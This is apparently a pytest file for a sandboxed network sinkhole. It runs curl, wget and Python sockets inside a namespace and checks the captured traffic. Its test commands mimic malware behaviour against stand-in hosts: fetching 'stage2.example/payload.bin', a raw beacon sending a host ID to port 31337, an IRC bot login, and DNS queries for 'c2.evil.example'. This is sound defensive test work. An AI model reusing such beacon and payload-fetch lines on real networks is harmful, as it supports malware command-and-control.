"""Real clients against the simulated internet inside a namespace: curl, wget, Python
sockets, getaddrinfo, a DNS query crafted over TCP. Each checks the records and that the
host's loopback listeners saw nothing."""

from __future__ import annotations

import hashlib

from bubble import events
from bubble.netsim.sinkhole import DEFAULT_BODY
from tests.netsim.conftest import run_sim

PY = "python3 -c"


def test_curl_http_path_and_query(tmp_path, host):
    sim = run_sim(
        tmp_path,
        f"curl -s 'http://stage2.example/payload.bin?id=7&x=y'; "
        f"curl -s http://127.0.0.1:{host.port}/local",
    )
    assert sim.doc["stdout"] == DEFAULT_BODY.decode() * 2
    assert sim.of("net.dns", dns_name="stage2.example", dns_type="A")
    [cap] = sim.of("net.capture", http_host="stage2.example")
    assert cap["http_request"] == "GET /payload.bin?id=7&x=y HTTP/1.1"
    assert (cap["http_method"], cap["http_path"]) == ("GET", "/payload.bin?id=7&x=y")
    assert cap["port"] == 80 and cap["dns_name"] == "stage2.example"
    assert cap["peer"].startswith("198.18.")
    # The whole payload is kept, named by the artifact id, with its sha256.
    payload = (sim.captures / cap["artifact"]).read_bytes()
    assert hashlib.sha256(payload).hexdigest() == cap["sha256"] and len(payload) == cap["bytes"]
    # 127.0.0.1 inside the namespace is not the host's loopback.
    [local] = sim.of("net.capture", http_path="/local")
    assert (local["peer"], local["port"]) == ("127.0.0.1", host.port)
    assert not host.saw_anything()
    for record in sim.records:
        events.from_record(record)  # every record is a valid typed event


def test_curl_https_with_and_without_verification(tmp_path, host):
    sim = run_sim(
        tmp_path,
        "curl -sk https://secure.example/login?u=1; echo; curl -s https://secure.example/; "
        "echo rc=$?",
    )
    out = sim.doc["stdout"]
    assert out.startswith(DEFAULT_BODY.decode()) and "rc=60" in out  # 60: bad certificate
    terminated, refused = sim.of("net.capture", tls_sni="secure.example")
    assert terminated["proto"] == "tls" and terminated["ended"] == "answered"
    assert terminated["http_request"] == "GET /login?u=1 HTTP/1.1"
    assert terminated["http_host"] == "secure.example" and terminated["port"] == 443
    # The verifying client stops at our certificate: its ClientHello is what we keep.
    assert refused["proto"] == "tcp" and refused["ended"] == "tls-refused"
    assert refused["hex"].startswith("16030") and "http_request" not in refused
    assert not host.saw_anything()


def test_wget_to_an_odd_port(tmp_path, host):
    sim = run_sim(tmp_path, "wget -q -O - http://w.example:8081/get/it")
    assert sim.doc["stdout"] == DEFAULT_BODY.decode()
    [cap] = sim.of("net.capture", port=8081)
    assert cap["http_request"] == "GET /get/it HTTP/1.1" and cap["http_host"] == "w.example:8081"
    assert "Wget" in cap["text"]
    assert not host.saw_anything()


def test_raw_beacon_to_a_literal_address_gets_no_reply(tmp_path, host):
    script = (
        f"{PY} \"import socket; s = socket.create_connection(('203.0.113.9', 31337)); "
        "s.sendall(bytes(range(256)) + b'ID=host42'); s.settimeout(1.5)\n"
        "try: print('reply', s.recv(10))\nexcept TimeoutError: print('no reply')\""
    )
    sim = run_sim(tmp_path, script)
    assert sim.doc["stdout"].strip() == "no reply"
    [cap] = sim.of("net.capture", port=31337)
    assert cap["peer"] == "203.0.113.9" and cap["proto"] == "tcp" and "dns_name" not in cap
    assert cap["bytes"] == 265 and cap["hex"] == bytes(range(256)).hex()
    assert cap["text"].endswith("ID=host42")
    assert not host.saw_anything()


def test_ipv6_literal_and_udp_datagrams(tmp_path, host):
    script = (
        f'{PY} "import socket\n'
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "u.sendto(b'knock-knock', ('198.51.100.7', 9999))\n"
        f"u.sendto(b'to-host', ('127.0.0.1', {host.port}))\n"
        "v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
        "v.sendto(b'six', ('2001:db8::77', 5353))\n"
        "t = socket.create_connection(('2001:db8::1', 6667)); t.sendall(b'NICK bot\\r\\n')\""
    )
    sim = run_sim(tmp_path, script)
    udp = {(r["peer"], r["port"]): r for r in sim.of("net.capture", proto="udp")}
    assert udp[("198.51.100.7", 9999)]["text"] == "knock-knock"
    assert udp[("127.0.0.1", host.port)]["text"] == "to-host"
    assert udp[("2001:db8::77", 5353)]["text"] == "six"
    [irc] = sim.of("net.capture", port=6667)
    assert irc["peer"] == "2001:db8::1" and irc["text"] == "NICK bot\r\n"
    assert not host.saw_anything()


def test_getaddrinfo_and_a_crafted_dns_query_over_tcp(tmp_path, host):
    script = (
        f'{PY} "import socket, struct\n'
        "print(sorted({a[4][0] for a in socket.getaddrinfo('c2.evil.example', 443)}))\n"
        "q = struct.pack('!HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
        "q += b''.join(bytes([len(p)]) + p for p in (b'c2', b'evil', b'example')) + b'\\0'\n"
        "q += struct.pack('!HH', 1, 1)\n"
        "s = socket.create_connection(('192.0.2.53', 53)); s.sendall(struct.pack('!H', len(q)) + q)\n"
        "n = struct.unpack('!H', s.recv(2))[0]; r = s.recv(n)\n"
        "print(r[:2].hex(), socket.inet_ntoa(r[-4:]))\n"
        "q2 = q[:-4] + struct.pack('!HH', 16, 1)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)\n"
        "u.sendto(q2, ('192.0.2.99', 53)); r2, src = u.recvfrom(512)\n"
        "print(src[0], struct.unpack('!H', r2[6:8])[0])\""
    )
    sim = run_sim(tmp_path, script)
    lines = sim.doc["stdout"].splitlines()
    a = sim.of("net.dns", dns_name="c2.evil.example", dns_type="A")
    aaaa = sim.of("net.dns", dns_name="c2.evil.example", dns_type="AAAA")
    assert a and aaaa
    assert lines[0] == str(sorted({a[0]["answer"], aaaa[0]["answer"]}))
    # The TCP query gets the same address: stable within the run.
    assert lines[1] == f"1234 {a[0]['answer']}"
    [tcp] = [r for r in a if r["proto"] == "tcp"]
    assert tcp["peer"] == "192.0.2.53"
    # The UDP reply comes from the address asked; TXT has no answer.
    assert lines[2] == "192.0.2.99 0"
    assert sim.of("net.dns", dns_type="TXT", answer="", peer="192.0.2.99")
    assert not host.saw_anything()
